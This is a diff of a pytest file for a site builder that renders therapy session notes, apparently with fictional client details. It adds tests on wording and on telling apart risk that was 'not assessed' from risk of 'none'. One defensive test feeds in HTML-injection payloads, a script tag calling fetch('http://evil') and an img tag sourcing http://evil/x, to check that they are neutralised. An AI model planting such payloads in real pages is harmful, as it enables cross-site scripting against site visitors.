@@ -54,7 +54,7 @@ def test_the_overview_tells_the_story_at_a_glance(site) -> None:
     assert "passive thoughts, safety plan reviewed" in text
     assert "A fall at home on Tuesday" in text
     assert "PHQ-9 11 (19 Jan 2026) moderate -10" in text
-    assert "1 psychotherapy note(s) are kept apart" in text
+    assert "1 psychotherapy note is kept apart" in text and "(s)" not in text
 
 
 def test_the_timeline_is_newest_first_with_addenda_linked(site) -> None:
@@ -87,7 +87,11 @@ def test_measures_are_charts_with_bands_and_change_since_baseline(site) -> None:
 
 def test_plan_homework_and_themes(site) -> None:
     plan = html(site, "plan.html")
-    assert "Return to work part-time: 1 session(s)" in plan and "How the goals changed" in plan
+    assert (
+        "Return to work part-time: 1 session," in plan
+        and "(s)" not in plan
+        and "How the goals changed" in plan
+    )
     homework = html(site, "homework.html")
     assert re.search(r"12 Jan 2026\s*Sleep diary every morning\s*19 Jan 2026", homework)
     themes = html(site, "themes.html")
@@ -121,11 +125,12 @@ def test_client_text_cannot_inject_html(practice: Env, tmp_path: Path) -> None:
         note(
             "bbbbbbbbbbbbbbb1",
             "2026-02-01",
+            status="draft",  # a draft seals however unfinished: the page must show it
             extra='homework: ["<img src=http://evil/x>"]\n',
             body="<script>fetch('http://evil')</script> [link](http://evil)\n",
         )
     )
-    assert practice.run("syncd", "--once").code == 0
+    assert "sealed 1" in practice.run("syncd", "--once").text
     site = built(practice, tmp_path)
     for page in site.html.rglob("*.html"):
         text = page.read_text()
@@ -176,3 +181,42 @@ def test_a_long_history_is_built_in_two_processes_into_one_site(practice: Env, t
     assert first_link[2] == f"{newest:%d %b %Y}" and first_link[1].startswith(
         f"sessions/{newest:%Y-%m}.html#n-"
     )
+
+
+@pytest.mark.parametrize(
+    ("risk", "state"),
+    [
+        (None, "not assessed"),
+        ("", "not assessed"),
+        ("  ", "not assessed"),
+        ("none", "none"),
+        ("None noted", "none"),
+        ("none, denies ideation, plan or intent", "none"),
+        ("low: protective factors named", "none"),
+        ("passive thoughts, safety plan reviewed", "flag"),
+        ("no plan but passive ideation", "flag"),
+    ],
+)
+def test_risk_reads_not_assessed_apart_from_none(risk, state) -> None:
+    import datetime as dt
+
+    from site_builder.timeline import Entry
+
+    meta = {} if risk is None else {"risk": risk}
+    assert Entry("a" * 16, dt.date(2026, 1, 5), "soap", meta, "", 1, True).risk_state == state
+
+
+def test_the_site_tells_risk_not_assessed_from_none(practice: Env, tmp_path: Path) -> None:
+    from site_fixtures import note
+
+    inbox = practice.practice.inbox
+    (inbox / "a.md").write_text(note("ccccccccccccccc1", "2026-02-02", status="draft", extra="risk: none\n"))
+    (inbox / "b.md").write_text(note("ccccccccccccccc2", "2026-02-09", status="draft"))
+    assert "sealed 2" in practice.run("syncd", "--once").text
+    site = built(practice, tmp_path)
+    overview = html(site, "index.html")
+    assert "Risk at the last session: not assessed" in overview
+    assert "Risk not assessed in 1 session: 09 Feb 2026" in overview
+    assert "None: no risk found where it was assessed." in overview
+    month = html(site, "sessions/2026-02.html")
+    assert "Risk: not assessed" in month and "Risk: none" in month
